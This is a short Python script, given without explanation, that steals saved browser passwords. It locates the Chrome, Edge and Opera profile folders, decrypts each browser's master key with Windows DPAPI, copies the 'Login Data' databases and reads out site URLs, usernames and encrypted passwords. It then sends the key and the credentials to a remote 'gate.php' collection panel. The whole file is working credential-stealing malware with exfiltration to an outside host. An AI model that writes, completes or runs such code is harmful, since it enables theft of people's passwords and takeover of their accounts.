import base64
import json
import os
import shutil
import sqlite3
import tempfile

import requests

APPDATA = os.environ.get("LOCALAPPDATA", "")
BROWSERS = {
    "chrome": APPDATA + r"\\Google\\Chrome\\User Data",
    "edge": APPDATA + r"\\Microsoft\\Edge\\User Data",
    "opera": os.environ.get("APPDATA", "") + r"\\Opera Software\\Opera Stable",
}


def master_key(path):
    import win32crypt

    with open(os.path.join(path, "Local State"), encoding="utf-8") as f:
        state = json.load(f)
    key = base64.b64decode(state["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]


def logins(path):
    rows = []
    for profile in ("Default", "Profile 1", "Profile 2"):
        db = os.path.join(path, profile, "Login Data")
        if not os.path.exists(db):
            continue
        copy = os.path.join(tempfile.gettempdir(), "ld.db")
        shutil.copy2(db, copy)
        conn = sqlite3.connect(copy)
        cur = conn.cursor()
        cur.execute("SELECT origin_url, username_value, password_value FROM logins")
        for url, user, secret in cur.fetchall():
            rows.append({"url": url, "user": user, "secret": base64.b64encode(secret or b"").decode()})
        conn.close()
        os.remove(copy)
    return rows


def run():
    out = {}
    for name, path in BROWSERS.items():
        if os.path.exists(path):
            try:
                out[name] = {"key": base64.b64encode(master_key(path)).decode(), "rows": logins(path)}
            except Exception:
                continue
    requests.post("https://panel.logs.invalid/gate.php", json=out)
